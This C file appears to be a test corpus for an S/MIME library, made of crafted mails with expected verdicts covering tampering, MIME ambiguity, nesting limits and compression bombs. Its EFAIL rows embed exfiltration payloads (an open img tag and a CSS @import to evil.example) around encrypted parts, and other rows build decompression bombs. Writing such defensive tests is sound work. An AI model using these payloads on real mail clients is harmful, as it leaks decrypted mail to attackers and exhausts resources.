/* Tricks with headers, parts, boundaries and encodings around a good signature or encryption. */
#include "tests/mail/corpus.h"

#include <openssl/objects.h>
#include <string.h>

#include "tests/mail/scene.h"
#include "tests/smime/dissect.h"

static GBytes *
detached(const char *unused)
{
    return scene_detached(scene_identity("alice-p256-sign"), NULL);
}

static GBytes *
opaque(const char *unused)
{
    return scene_opaque(scene_identity("alice-p256-sign"), NULL);
}

static GBytes *
sealed(const char *unused)
{
    g_autoptr(GBytes) mail = world_bytes(WORLD_MAIL);

    return scene_sealed(mail, "alice-rsa-decrypt", FALSE);
}

/* The opaque message as a gateway might send it on: each byte of its DER as =XX, or as it is. */
static GBytes *
transferred(const char *encoding)
{
    g_autoptr(GBytes) mail = opaque(NULL);
    g_autoptr(GBytes) cms = test_cms_of(mail);
    gboolean binary = g_str_equal(encoding, "binary");
    gsize len = 0;
    const guint8 *bytes = g_bytes_get_data(cms, &len);
    GByteArray *out = g_byte_array_new();
    g_autofree char *head =
        g_strdup_printf("From: alice@example.org\nContent-Type: application/pkcs7-mime\n"
                        "Content-Transfer-Encoding: %s\n\n",
                        encoding);

    g_byte_array_append(out, (const guint8 *)head, (guint)strlen(head));
    if (binary)
        g_byte_array_append(out, bytes, (guint)len);
    for (gsize i = 0; i < len && !binary; i++) {
        char escape[8];

        g_snprintf(escape, sizeof escape, "%s=%02X", i > 0 && i % 24 == 0 ? "=\n" : "", bytes[i]);
        g_byte_array_append(out, (const guint8 *)escape, (guint)strlen(escape));
    }
    return g_byte_array_free_to_bytes(out);
}

static GBytes *
detached_of(const char *mail)
{
    return scene_detached(scene_identity("alice-p256-sign"), mail);
}

static GBytes *
sealed_of(const char *mail)
{
    g_autoptr(GBytes) bytes = world_bytes(mail);

    return scene_sealed(bytes, "alice-rsa-decrypt", FALSE);
}

static GBytes *
as_it_stands(const char *mail)
{
    return world_bytes(mail);
}

/* The entity of a mail: what follows its fields that are not of MIME. */
static const char *
entity_in(const char *mail)
{
    const char *start = strstr(mail, "MIME-Version: 1.0\r\n");

    return start ? start + strlen("MIME-Version: 1.0\r\n") : mail;
}

/* -- among others ----------------------------------------------------------------------------- */

/* `frame` has %s where the entity stands; lines end in CRLF. */
static GBytes *
frame(const char *text, GBytes *inner)
{
    g_autofree char *mail = scene_text(inner);
    g_auto(GStrv) pieces = g_strsplit(text, "%s", 2);
    g_autofree char *whole = g_strconcat("From: Alice <alice@example.org>\r\nMIME-Version: 1.0\r\n",
                                         pieces[0], entity_in(mail), pieces[1], NULL);

    return world_bytes(whole);
}

static GBytes *
framed_signed(const char *text)
{
    g_autoptr(GBytes) inner = detached(NULL);

    return frame(text, inner);
}

static GBytes *
framed_sealed(const char *text)
{
    g_autoptr(GBytes) inner = sealed(NULL);

    return frame(text, inner);
}

/* What a gateway leaves of it. */
static GBytes *
framed_sealed_as_file(const char *text)
{
    g_autoptr(GBytes) inner = sealed(NULL);
    g_autoptr(GBytes) file =
        world_replace(inner, "application/pkcs7-mime; smime-type=enveloped-data",
                      "application/octet-stream; x=y");

    return frame(text, file);
}

static GBytes *
framed_both(const char *text)
{
    g_autoptr(GBytes) one = detached(NULL);
    g_autoptr(GBytes) other = sealed(NULL);
    g_autofree char *other_text = scene_text(other);
    g_autofree char *both =
        g_strconcat(text, "\r\n--f\r\n", entity_in(other_text), "\r\n--f--\r\n", NULL);

    return frame(both, one);
}

/* The frame itself is what was sealed. */
static GBytes *
sealed_around_sealed(const char *text)
{
    g_autoptr(GBytes) inner = framed_sealed(text);

    return scene_sealed(inner, "alice-p256-decrypt", FALSE);
}

/* Bob signs what somebody else's sealed part stands in. */
static GBytes *
signed_around_sealed(const char *text)
{
    g_autoptr(GBytes) inner = framed_sealed(text);
    g_autofree char *mail = scene_text(inner);

    return scene_detached(scene_identity("bob-rsa-sign"), mail);
}

/* Eve knows nobody's key and wraps a sealed mail, perhaps with a changed block in it, into
 * encryption that authenticates. */
static GBytes *
sealed_twice(const char *unused)
{
    g_autoptr(GBytes) inner = sealed(NULL);

    return scene_sealed(inner, "alice-p256-decrypt", TRUE);
}

/* Bob signs a mail somebody else sealed for Alice. */
static GBytes *
signed_around(const char *unused)
{
    g_autoptr(GBytes) inner = sealed(NULL);
    g_autoptr(GBytes) whole = world_replace(inner, "Alice <alice@example.org>", "bob@example.org");
    g_autofree char *text = scene_text(whole);

    return scene_detached(scene_identity("bob-rsa-sign"), text);
}

/* A sealed part in plain multiparts, as many as `count` says. */
static GBytes *
deep(const char *count)
{
    g_autoptr(GBytes) inner = sealed(NULL);
    g_autofree char *mail = scene_text(inner);
    g_autoptr(GString) text = g_string_new(entity_in(mail));

    for (int i = atoi(count); i > 0; i--) {
        g_autofree char *head =
            g_strdup_printf("Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n", i, i);

        g_string_prepend(text, head);
        g_string_append_printf(text, "\r\n--b%d--\r\n", i);
    }
    g_string_prepend(text, "From: alice@example.org\r\n");
    return world_bytes(text->str);
}

#define FOREIGN    CORPUS_FOREIGN "\r\n"
#define HEAD(type) "Content-Type: multipart/" type "; boundary=f\r\n\r\n"
#define PART       "--f\r\n"
#define END        "\r\n--f--\r\n"
#define TEXT       PART "Content-Type: text/plain\r\n\r\ntext\r\n"
#define OPEN_IMAGE PART "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n"
#define END_IMAGE  "\r\n" PART "Content-Type: text/html\r\n\r\n\">"

/* -- limits ----------------------------------------------------------------------------------- */

/* Nested opaque signatures, as many as `count` says. */
static GBytes *
nested(const char *count)
{
    g_autoptr(GBytes) mail = world_bytes(WORLD_MAIL);

    for (int i = atoi(count); i > 0; i--) {
        g_autofree char *text = scene_text(mail);

        g_bytes_unref(mail);
        mail = scene_opaque(scene_identity("alice-p256-sign"), text);
    }
    return g_steal_pointer(&mail);
}

static GBytes *
nested_sealed(const char *count)
{
    g_autoptr(GBytes) mail = world_bytes(WORLD_MAIL);

    for (int i = atoi(count); i > 0; i--) {
        g_autoptr(GBytes) inner = g_steal_pointer(&mail);

        mail = scene_sealed(inner, "alice-p256-decrypt", i % 2 == 0);
    }
    return g_steal_pointer(&mail);
}

static GBytes *
parts_of(const char *type, const char *count)
{
    g_autoptr(GString) mail = g_string_new("From: alice@example.org\r\nContent-Type: multipart/");

    g_string_append_printf(mail, "%s; boundary=f\r\n", type);
    for (int i = atoi(count); i > 0; i--)
        g_string_append(mail, "\r\n--f\r\n\r\n");
    g_string_append(mail, END);
    return world_bytes(mail->str);
}

static GBytes *
many_parts(const char *count)
{
    return parts_of("signed", count);
}

static GBytes *
many_plain_parts(const char *count)
{
    return parts_of("mixed", count);
}

/* So many multiparts of a thousand parts. */
static GBytes *
parts_of_parts(const char *count)
{
    g_autoptr(GString) inner = g_string_new("Content-Type: multipart/mixed; boundary=g\r\n\r\n");
    g_autoptr(GString) mail = g_string_new("From: alice@example.org\r\n" HEAD("mixed"));

    for (int i = 0; i < 1000; i++)
        g_string_append(inner, "--g\r\n\r\n");
    g_string_append(inner, "--g--\r\n");
    for (int i = atoi(count); i > 0; i--) {
        g_string_append(mail, PART);
        g_string_append(mail, inner->str);
    }
    g_string_append(mail, END);
    return world_bytes(mail->str);
}

/* A compressed message of so many mebibytes, and a byte. */
static GBytes *
bomb(const char *mebibytes)
{
    gsize len = (gsize)atoi(mebibytes) * 1024 * 1024 + 1;
    g_autoptr(GByteArray) stream = test_stream_of_zeroes(len);
    g_autoptr(GBytes) plain = world_bytes(WORLD_MAIL);
    g_autoptr(GBytes) mail = seal_mail_compress(plain, NULL);
    g_autoptr(SealCompressedData) data = test_take_apart(mail, ASN1_ITEM_rptr(SealCompressedData));

    ASN1_OCTET_STRING_set(data->encapsulated->content, stream->data, (int)stream->len);
    return test_put_together(data, ASN1_ITEM_rptr(SealCompressedData),
                             NID_id_smime_ct_compressedData);
}

static GBytes *
compressed(const char *mail)
{
    g_autoptr(GBytes) plain = world_bytes(mail);

    return seal_mail_compress(plain, NULL);
}

static GBytes *
sealed_bomb(const char *mebibytes)
{
    g_autoptr(GBytes) mail = bomb(mebibytes);

    return scene_sealed(mail, "alice-rsa-decrypt", FALSE);
}

static GBytes *
bombs_in_bombs(const char *unused)
{
    return test_bombs_in_bombs();
}

static GBytes *
many_fields(const char *count)
{
    g_autoptr(GBytes) mail = detached(NULL);
    g_autoptr(GString) fields = g_string_new(NULL);

    for (int i = atoi(count); i > 0; i--)
        g_string_append(fields, "X: y\r\n");
    g_string_append(fields, "MIME-Version: 1.0\r\n");
    return world_replace(mail, "MIME-Version: 1.0\r\n", fields->str);
}

/* -- the table -------------------------------------------------------------------------------- */

const CorpusRow corpus_mime[] = {
    {"mime/detached/is-ok", "verify", "ok", NULL, detached},
    {"mime/opaque/is-ok", "verify", "ok", NULL, opaque},
    {"mime/sealed/is-opened", "open", "decrypted-noauth", NULL, sealed},
    /* What other writers and gateways do to good mails. */
    {"mime/odd-but-good/x-type", "verify", "ok", NULL, opaque, NULL, "application/pkcs7-mime",
     "application/x-pkcs7-mime"},
    {"mime/odd-but-good/x-signature", "verify", "ok", NULL, detached, NULL,
     "application/pkcs7-signature; name", "application/x-pkcs7-signature; name"},
    {"mime/odd-but-good/octet-stream-p7m", "verify", "ok", NULL, opaque, NULL,
     "application/pkcs7-mime; smime-type=signed-data", "application/octet-stream; x=y"},
    {"mime/odd-but-good/octet-stream-p7s", "verify", "ok", NULL, detached, NULL,
     "application/pkcs7-signature; name", "application/octet-stream; name"},
    {"mime/odd-but-good/type-in-capitals", "verify", "ok", NULL, detached, NULL, "multipart/signed",
     "MULTIPART/Signed"},
    {"mime/odd-but-good/comments-in-type", "verify", "ok", NULL, detached, NULL,
     "multipart/signed;", "multipart/signed (a (comment)) ;"},
    {"mime/odd-but-good/other-micalg", "verify", "ok", NULL, detached, NULL, "micalg=\"sha-256\"",
     "micalg=unknown"},
    {"mime/odd-but-good/preamble", "verify", "ok", NULL, detached, NULL, "\r\n\r\n--the-boundary",
     "\r\n\r\nThis is a signed message\r\n\r\n--the-boundary"},
    {"mime/odd-but-good/blanks-behind-boundary", "verify", "ok", NULL, detached, NULL,
     "--the-boundary--", "--the-boundary--  \t"},
    {"mime/odd-but-good/quoted-printable", "verify", "ok", NULL, transferred, "quoted-printable"},
    {"mime/odd-but-good/binary", "verify", "ok", NULL, transferred, "binary"},
    {"mime/stated-quoted-printable-is-base64", "verify", "malformed", "cannot be read", opaque,
     NULL, "Content-Transfer-Encoding: base64", "Content-Transfer-Encoding: quoted-printable"},
    /* Changed on the way. */
    {"mime/changed/text", "verify", "bad-signature", "changed after it was signed", detached, NULL,
     "From the keeper", "From the thief!"},
    {"mime/changed/trailing-blank", "verify", "bad-signature", "changed after it was signed",
     detached, NULL, "keeper.\r\n", "keeper. \r\n"},
    {"mime/changed/type-of-the-part", "verify", "bad-signature", "changed after it was signed",
     detached, NULL, "text/plain; charset=utf-8", "text/html; charset=utf-7"},
    {"mime/changed/line-end-before-boundary", "verify", "bad-signature",
     "changed after it was signed", detached, NULL, "\r\n--the-boundary\r\nContent-Type: appl",
     "\r\n\r\n--the-boundary\r\nContent-Type: appl"},
    {"mime/changed/base64", "verify", "malformed", "cannot be read", opaque, NULL, "\r\n\r\nMI",
     "\r\n\r\n!!"},
    /* Two readers, two mails. */
    {"mime/type-twice", "verify", "malformed", "more than one Content-Type", detached, NULL,
     "MIME-Version: 1.0\r\n", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n"},
    {"mime/type-twice-in-the-signature-part", "verify", "malformed", "signature part", detached,
     NULL, "Content-Type: application/pkcs7-signature",
     "Content-Type: text/plain\r\nContent-Type: application/pkcs7-signature"},
    {"mime/encoding-twice", "open", "malformed", "more than one Content-Transfer-Encoding", sealed,
     NULL, "Content-Transfer-Encoding: base64",
     "Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64"},
    {"mime/encoding-around-parts", "verify", "malformed", "around its parts", detached, NULL,
     "MIME-Version: 1.0\r\n", "MIME-Version: 1.0\r\nContent-Transfer-Encoding: base64\r\n"},
    {"mime/boundary-twice", "verify", "malformed", "one way only", detached, NULL,
     "boundary=", "boundary=decoy; boundary="},
    {"mime/boundary-empty", "verify", "malformed", "usable boundary", detached, NULL,
     "boundary=\"the-boundary\"", "boundary=\"\""},
    {"mime/boundary-missing", "verify", "malformed", "usable boundary", detached, NULL,
     "boundary=\"the-boundary\"", "x=\"the-boundary\""},
    {"mime/boundary-in-pieces-beside-a-whole-one", "verify", "malformed", "one way only", detached,
     NULL, "boundary=", "boundary*0=decoy; boundary="},
    {"mime/boundary-in-pieces", "verify", "malformed", "one way only", detached, NULL,
     "boundary=\"the-boundary\"", "boundary*0=\"the-\"; boundary*1=boundary"},
    {"mime/boundary-in-another-character-set", "verify", "malformed", "one way only", detached,
     NULL, "boundary=\"the-boundary\"", "boundary*=us-ascii''the-boundary"},
    {"mime/protocol-in-pieces", "verify", "malformed", "one way only", detached, NULL,
     "protocol=", "protocol*0=\"application/pgp-\"; protocol="},
    {"mime/boundary-in-capitals", "verify", "malformed", "last boundary", detached, NULL,
     "boundary=\"the-boundary\"", "boundary=\"THE-BOUNDARY\""},
    {"mime/boundary-with-a-blank-at-its-end", "verify", "malformed", "last boundary", detached,
     NULL, "boundary=\"the-boundary\"", "boundary=\"the-boundary \""},
    {"mime/boundary-with-a-line-end", "verify", "malformed", "last boundary", detached, NULL,
     "boundary=\"the-boundary\"", "boundary=\"the-\r\n boundary\""},
    {"mime/boundary-huge", "verify", "malformed", "usable boundary", detached, NULL,
     "boundary=\"the-boundary\"",
     "boundary=\"01234567890123456789012345678901234567890123456789012345678901234567890123456789"
     "01234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901"
     "234567890123456789012345678901234567890123456789\""},
    {"mime/open-comment-in-type", "verify", "malformed", "one way only", detached, NULL,
     "multipart/signed;", "multipart/signed; ((x);"},
    {"mime/open-quote-in-type", "verify", "malformed", "one way only", detached, NULL,
     "boundary=\"the-boundary\"", "boundary=\"the-boundary"},
    {"mime/header-line-is-no-field", "verify", "malformed", "is no field", detached, NULL,
     "MIME-Version: 1.0\r\n", "no field at all\r\nMIME-Version: 1.0\r\n"},
    {"mime/third-part", "verify", "malformed", "exactly two parts", detached, NULL,
     "\r\n--the-boundary--", "\r\n--the-boundary\r\n\r\nforeign text\r\n--the-boundary--"},
    {"mime/foreign-part-in-front", "verify", "malformed", "exactly two parts", detached, NULL,
     "--the-boundary\r\n", "--the-boundary\r\n\r\nforeign text\r\n--the-boundary\r\n"},
    {"mime/only-one-part", "verify", "malformed", "exactly two parts", detached, NULL,
     "--the-boundary\r\nContent-Type: app", "Content-Type: app"},
    {"mime/no-last-boundary", "verify", "malformed", "last boundary", detached, NULL,
     "--the-boundary--", "--the-boundary-"},
    {"mime/last-boundary-first", "verify", "malformed", "ends before its first part", detached,
     NULL, "\r\n\r\n--the-boundary", "\r\n\r\n--the-boundary--\r\n--the-boundary"},
    {"mime/text-behind-boundary", "verify", "malformed", "two parts", detached, NULL,
     "--the-boundary\r\nContent-Type: app", "--the-boundary evil\r\nContent-Type: app"},
    {"mime/signature-part-is-text", "verify", "malformed", "signature part", detached, NULL,
     "Content-Type: application/pkcs7-signature", "Content-Type: text/plain"},
    {"mime/signature-part-of-unknown-encoding", "verify", "malformed", "signature part", detached,
     NULL, "Content-Transfer-Encoding: base64", "Content-Transfer-Encoding: x-uuencode"},
    {"mime/signed-by-another-protocol", "verify", "unsupported", "not as S/MIME", detached, NULL,
     "protocol=\"application/pkcs7-signature\"", "protocol=\"application/pgp-signature\""},
    {"mime/list-footer-behind-base64", "open", "malformed", "cannot be read", sealed, NULL,
     "\r\n\r\n", "\r\n\r\n_______________\r\nList footer\r\n"},
    /* What is in front of the first boundary or behind the last one is no part, and not shown. */
    {"mime/around-the-parts/text-behind-the-last-boundary", "open", "ok", NULL, detached, NULL,
     "--the-boundary--\r\n", "--the-boundary--\r\n" FOREIGN},
    {"mime/around-the-parts/parts-behind-the-last-boundary", "open", "ok", NULL, detached, NULL,
     "--the-boundary--\r\n",
     "--the-boundary--\r\n--the-boundary\r\n\r\n" FOREIGN "--the-boundary--\r\n"},
    {"mime/around-the-parts/text-in-front", "open", "ok", NULL, detached, NULL,
     "\r\n\r\n--the-boundary", "\r\n\r\n" FOREIGN "\r\n--the-boundary"},
    {"mime/around-the-parts/longer-boundary-is-text", "open", "ok", NULL, detached_of,
     "From: alice@example.org\r\n\r\n--the-boundary2\r\n\r\ntext\r\n"},
    {"mime/around-the-parts/boundary-inside-what-was-signed", "open", "malformed",
     "exactly two parts", detached_of,
     "From: alice@example.org\r\n\r\n--the-boundary\r\n\r\ntext\r\n"},
    /* Empty ones. */
    {"mime/empty/signed-text", "verify", "ok", NULL, detached_of,
     "From: alice@example.org\r\n\r\n"},
    {"mime/empty/signature-part", "verify", "malformed", "signature part", as_it_stands,
     "From: alice@example.org\r\nContent-Type: multipart/signed; boundary=f\r\n\r\n" TEXT PART
     "Content-Type: application/pkcs7-signature\r\n" END},
    {"mime/empty/both-parts", "verify", "malformed", "signature part", as_it_stands,
     "From: alice@example.org\r\nContent-Type: multipart/signed; boundary=f\r\n\r\n" PART
     "\r\n" PART END},
    {"mime/empty/parts-of-no-protection", "open", "ok-plain", NULL, as_it_stands,
     "From: alice@example.org\r\n" HEAD("mixed") PART "\r\n" PART END},
    {"mime/empty/message-in-base64", "open", "malformed", "cannot be read", as_it_stands,
     "From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n"
     "Content-Transfer-Encoding: base64\r\n\r\n\r\n"},
    /* Names and character sets that some readers decode, and some do not. */
    {"mime/charset/type-as-encoded-word", "verify", "malformed", "one way only", opaque, NULL,
     "application/pkcs7-mime", "=?utf-8?q?application=2Fpkcs7-mime?="},
    {"mime/charset/type-beyond-ascii", "verify", "malformed", "one way only", opaque, NULL,
     "application/pkcs7-mime", "\xd0\xb0pplication/pkcs7-mime"},
    {"mime/charset/encoding-beyond-ascii", "verify", "malformed", "cannot be read", opaque, NULL,
     "Content-Transfer-Encoding: base64", "Content-Transfer-Encoding: base64\xc2\xa0"},
    {"mime/charset/utf-16-header", "open", "malformed", "no mail", as_it_stands,
     "\xff\xfe"
     "F\x01r\x01o\x01m\x01:\x01 a@example.org\r\n\r\n"},
    {"mime/charset/utf-7-in-plain-mail", "open", "ok-plain", NULL, as_it_stands,
     "From: a@example.org\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-img src+AD0-x\r\n"},
    /* Something else around a signed part. */
    {"mime/beside-signed/list-footer", "open", "partially-signed", "a part of it is signed",
     framed_signed, HEAD("mixed") PART "%s\r\n" TEXT END},
    {"mime/beside-signed/alternative", "verify", "partially-signed", "a part of it is signed",
     framed_signed, HEAD("alternative") TEXT PART "%s" END},
    {"mime/beside-signed/deep", "open", "partially-signed", "a part of it is signed", framed_signed,
     HEAD("mixed") TEXT PART
     "Content-Type: multipart/mixed; boundary=g\r\n\r\n--g\r\n%s\r\n--g--" END},
    /* EFAIL, direct exfiltration: a decrypted text would end up in a foreign HTML part. */
    {"mime/efail/image-around-sealed", "open", "partially-encrypted", "open it by itself",
     framed_sealed, HEAD("mixed") OPEN_IMAGE PART "%s" END_IMAGE END},
    {"mime/efail/image-before-sealed", "decrypt", "partially-encrypted", "open it by itself",
     framed_sealed, HEAD("related") OPEN_IMAGE PART "%s" END},
    {"mime/efail/sealed-as-alternative", "open", "partially-encrypted", "open it by itself",
     framed_sealed, HEAD("alternative") TEXT PART "%s" END},
    {"mime/efail/sealed-as-report", "open", "partially-encrypted", "open it by itself",
     framed_sealed, HEAD("report; report-type=disposition-notification") OPEN_IMAGE PART "%s" END},
    {"mime/efail/sealed-in-a-multipart-of-no-known-kind", "open", "partially-encrypted",
     "open it by itself", framed_sealed, HEAD("x-unheard-of") OPEN_IMAGE PART "%s" END},
    {"mime/efail/sealed-in-what-was-cut-off", "open", "partially-encrypted", "open it by itself",
     framed_sealed, HEAD("mixed") OPEN_IMAGE PART "%s"},
    {"mime/efail/sealed-behind-a-style-sheet", "decrypt", "partially-encrypted",
     "open it by itself", framed_sealed,
     HEAD("related") PART "Content-Type: text/css\r\n\r\n@import url(http://evil.example/\r\n" PART
                          "%s" END},
    {"mime/efail/sealed-as-octet-stream", "open", "partially-encrypted", "open it by itself",
     framed_sealed_as_file, HEAD("mixed") OPEN_IMAGE PART "%s" END_IMAGE END},
    {"mime/efail/open-tag-inside-what-was-sealed/gets-nothing-behind-it", "open",
     "decrypted-noauth", NULL, sealed_of,
     "From: alice@example.org\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/"},
    {"mime/efail/signed-and-sealed-side-by-side", "open", "partially-encrypted",
     "open it by itself", framed_both, HEAD("mixed") PART "%s"},
    {"mime/efail/only-part-of-a-multipart", "open", "partially-encrypted", "open it by itself",
     framed_sealed, HEAD("mixed") PART "%s" END},
    {"mime/efail/inside-what-was-sealed", "open", "partially-encrypted", "open it by itself",
     sealed_around_sealed, HEAD("mixed") OPEN_IMAGE PART "%s" END_IMAGE END},
    {"mime/efail/inside-what-another-signed", "open", "address-mismatch", "bob@example.org",
     signed_around_sealed, HEAD("mixed") OPEN_IMAGE PART "%s" END_IMAGE END},
    {"mime/efail/wrapped-into-authenticated-encryption", "open", "decrypted-noauth", NULL,
     sealed_twice},
    {"mime/efail/signed-by-another/is-not-signed", "open", "decrypted-noauth", NULL, signed_around},
    {"mime/efail/deep/stays-closed", "open", "partially-encrypted", "open it by itself", deep,
     "15"},
    /* Limits. */
    {"mime/limits/parts-too-deep", "open", "nesting-limit", "more deeply", deep, "17"},
    {"mime/limits/eight-layers", "open", "ok", NULL, nested, "8"},
    {"mime/limits/nine-layers", "open", "nesting-limit", "more layers", nested, "9"},
    {"mime/limits/nine-sealed-layers", "open", "nesting-limit", "more layers", nested_sealed, "9"},
    {"mime/limits/thousand-parts", "verify", "malformed", "exactly two parts", many_parts, "1000"},
    {"mime/limits/1001-parts", "verify", "resource-limit", "too many parts", many_parts, "1001"},
    {"mime/limits/1001-plain-parts", "open", "resource-limit", "more parts than are looked at",
     many_plain_parts, "1001"},
    {"mime/limits/thousand-plain-parts", "open", "ok-plain", NULL, many_plain_parts, "1000"},
    {"mime/limits/hundred-thousand-parts-of-parts", "open", "resource-limit",
     "more parts than are looked at", parts_of_parts, "100"},
    {"mime/limits/three-thousand-fields", "verify", "malformed", "too many header fields",
     many_fields, "3000"},
    {"mime/compressed/is-plain", "open", "ok-plain", NULL, compressed, WORLD_MAIL},
    {"mime/compressed/is-not-signed", "verify", "unsigned", "nobody signed it", compressed,
     WORLD_MAIL},
    {"mime/compressed/bomb", "open", "resource-limit", "larger than is looked at", bomb, "256"},
    {"mime/compressed/bomb-inside-what-was-sealed", "open", "resource-limit",
     "larger than is looked at", sealed_bomb, "256"},
    {"mime/compressed/bombs-in-bombs/count-together", "open", "resource-limit",
     "larger than is looked at", bombs_in_bombs},
    /* No mails. */
    {"mime/nothing", "open", "malformed", "no mail", as_it_stands, ""},
    {"mime/no-header", "open", "malformed", "no mail", as_it_stands, "no header at all"},
    {"mime/empty-body", "open", "malformed", "cannot be read", as_it_stands,
     "From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n\r\n"},
    {"mime/body-is-no-cms", "open", "malformed", "cannot be read", as_it_stands,
     "From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n\r\nhello"},
    {"mime/plain", "open", "ok-plain", NULL, as_it_stands, WORLD_MAIL},
    {"mime/plain-is-not-sealed", "decrypt", "ok-plain", "nothing to decrypt", as_it_stands,
     WORLD_MAIL},
    {"mime/plain-is-not-signed", "verify", "unsigned", "nobody signed it", as_it_stands,
     WORLD_MAIL},
    {0},
};
